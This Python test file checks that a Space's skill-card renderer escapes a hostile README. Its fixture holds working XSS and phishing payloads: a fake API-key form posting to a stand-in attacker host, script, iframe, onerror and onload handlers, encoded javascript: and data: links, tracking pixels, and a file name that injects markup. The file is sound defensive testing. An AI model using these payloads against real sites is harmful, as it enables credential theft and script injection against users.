"""A skill card written to phish the Space's visitors, as a visitor's browser renders it.

The attacker publishes a skill on the (local) Hub whose README holds a fake "paste your API key"
form, an iframe, remote images (one with ``onerror``), ``<style>``, ``<script>``, ``javascript:``
and ``data:`` links (mixed case, entity-encoded, autolinks, by reference), in the card body and
in its ``## Results`` section, and a file name that tries to close its code span. The Browse
tab of a hosted Space shows it in real Chromium: the page says all of it as text, the rendered
DOM holds no form, frame, image, style, script or ``javascript:``/``data:`` link, and the browser
never asks the attacker's host for anything.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from huggingface_hub import HfApi

from tests.space.conftest import write_demo_skill
from tests.space.test_app import CHROMIUM, CHROMIUM_ARGS
from upskill_hub.space_support.card_html import card_html

EVIL = "evil.invalid"
PHISH = "Paste your API key to verify"
HOSTILE_CARD = f"""---
license: apache-2.0
tags: [agent-skills]
---
# Fruit answers

<form action="https://{EVIL}/steal" method="post"><p>{PHISH}</p>
<input name="key" type="password"><button type="submit">Verify</button></form>

<iframe src="https://{EVIL}/frame"></iframe>
<img src="https://{EVIL}/track.png" onerror="document.title='pwned-onerror'">
<script>document.title = 'pwned-script'</script>
<style>body {{ display: none }}</style>
<svg onload="document.title='pwned-svg'"></svg>
<a href="javascript:document.title='pwned-a'">html link</a>

[markdown link](javascript:document.title='pwned-md') and [encoded](&#106;avascript:alert(1))
and a [fine link](https://example.org/docs).
[mixed case](JaVaScRiPt:alert(1)), [hex entity](&#x6A;avascript:alert(1)),
[data page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==),
![data image](data:image/png;base64,AAAA),
autolinks <javascript:alert(1)> and <data:text/html,x>, [by reference][js] and ![by reference][pic].

[js]: javascript:alert(1)

[pic]: https://{EVIL}/reference.png "a title"

![tracking pixel](https://{EVIL}/pixel.png)

```html
<form action="https://{EVIL}/in-code"></form>

[inside code](javascript:alert(1))
```

## Results

<form action="https://{EVIL}/results"><input name="token"></form>
![chart](https://{EVIL}/chart.png)
"""
#: a file name that tries to end its code span and inject an image
ODD_NAME = "references/a` <img src=x onerror=document.title='pwned-name'> `b.md"

#: what the rendered skill page holds that a card must never bring (Gradio's own copy button
#: on the ``pull`` command's code block aside)
FIND_HOSTILE = """(root) => {
    const bad = [...root.querySelectorAll(
        'form, iframe, frame, object, embed, img, picture, video, audio, source, style, '
        + 'script, link, meta, input, button, textarea, select, svg, math, base')
    ].filter((el) => !el.closest('.copy_code_button'));
    const onAttrs = [...root.querySelectorAll('*')].filter(
        (el) => [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on')));
    const hrefs = [...root.querySelectorAll('a[href]')].map((a) => a.getAttribute('href'));
    return {
        tags: bad.map((el) => el.tagName.toLowerCase()),
        onAttrs: onAttrs.map((el) => el.tagName.toLowerCase()),
        badHrefs: hrefs.filter((h) => !/^(https?:|mailto:)/i.test(h.trim())),
        hrefs: hrefs,
    };
}"""


@pytest.fixture(scope="module")
def hostile_repo(hub_server: object, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The attacker's skill on the local Hub, with the hostile card as its README."""
    folder = write_demo_skill(tmp_path_factory.mktemp("hostile"), "fruit-phish")
    api = HfApi()
    repo_id = "local-user/fruit-phish"
    api.create_repo(repo_id, exist_ok=True)
    api.upload_folder(repo_id=repo_id, folder_path=folder)
    api.upload_file(
        repo_id=repo_id, path_in_repo="README.md", path_or_fileobj=HOSTILE_CARD.encode()
    )
    api.upload_file(repo_id=repo_id, path_in_repo=ODD_NAME, path_or_fileobj=b"x")
    return repo_id


def test_card_html_allows_only_its_own_markup() -> None:
    html = card_html(HOSTILE_CARD)
    for tag in ("<form", "<iframe", "<img", "<script", "<style", "<svg", "<input", "<button"):
        assert tag not in html, tag
    assert "&lt;form action=" in html and PHISH in html  # shown as text
    for scheme in ("javascript", "data", "vbscript"):
        assert f'href="{scheme}' not in html.lower(), scheme
    assert f'<a href="https://{EVIL}/reference.png"' in html  # a reference image: a link too
    assert "onerror=" not in html.replace("onerror=&quot;", "")
    assert f'<a href="https://{EVIL}/pixel.png"' in html and "image: tracking pixel" in html
    assert '<a href="https://example.org/docs" target="_blank"' in html
    assert "\n" not in html and html.startswith('<div class="upskill-card">')


def test_api_skill_page_escapes_the_card(hostile_repo: str, hosted_url: str) -> None:
    from gradio_client import Client

    page = Client(hosted_url, verbose=False).predict(hostile_repo, api_name="/skill_page")
    assert "### Card" in page and "### Results section of the card" in page
    for tag in ("<form", "<iframe", "<script", "<style", "<svg", "<input"):
        assert tag not in page, tag
    assert "<img" not in page.replace(ODD_NAME, "")  # the file name is in a code span
    assert 'href="javascript' not in page.lower()


@pytest.mark.slow
@pytest.mark.skipif(not CHROMIUM.exists(), reason="apt-get install chromium")
def test_browser_renders_no_form_frame_image_or_script_from_a_card(
    hostile_repo: str, hosted_url: str, tmp_path: Path
) -> None:
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
        )
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 900})
            asked: list[str] = []
            page.on("request", lambda request: asked.append(request.url))
            page.goto(hosted_url)
            page.get_by_role("tab", name="Browse skills").click()
            page.get_by_label("Repo id", exact=True).fill(hostile_repo)
            page.get_by_role("button", name="Show skill").click()
            shown = page.locator("#upskill-skill-page")
            expect(shown).to_contain_text(PHISH, timeout=30_000)
            found = shown.evaluate(FIND_HOSTILE)
            assert found["tags"] == [] and found["onAttrs"] == [], found
            assert found["badHrefs"] == [], found
            expect(shown).to_contain_text("<form action=")  # the markup, as text
            expect(shown).to_contain_text("image: tracking pixel")
            expect(shown).to_contain_text(ODD_NAME)
            assert f"https://{EVIL}/pixel.png" in found["hrefs"]  # a link, fetched only on click
            assert not page.title().startswith("pwned")
            page.wait_for_timeout(500)
            assert not [url for url in asked if EVIL in url], asked
        finally:
            browser.close()
